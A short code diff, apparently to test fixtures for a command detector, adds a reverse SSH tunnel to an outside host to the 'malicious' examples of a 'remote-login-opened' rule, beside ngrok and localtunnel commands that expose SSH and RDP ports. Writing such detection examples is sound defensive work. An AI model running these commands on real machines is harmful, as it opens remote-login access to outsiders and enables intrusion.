@@ -102,7 +102,11 @@ export const plainOrders: readonly RuleExamples[] = [
   },
   {
     rule: "remote-login-opened",
-    malicious: [code("npx localtunnel --port 22"), code("ngrok tcp 3389")],
+    malicious: [
+      code("ssh -fN -R 0:localhost:22 pub@share.note-tools.dev"),
+      code("npx localtunnel --port 22"),
+      code("ngrok tcp 3389"),
+    ],
     nearMiss: [code("npx localtunnel --port 3000"), code("ngrok http 8080")],
   },
   {
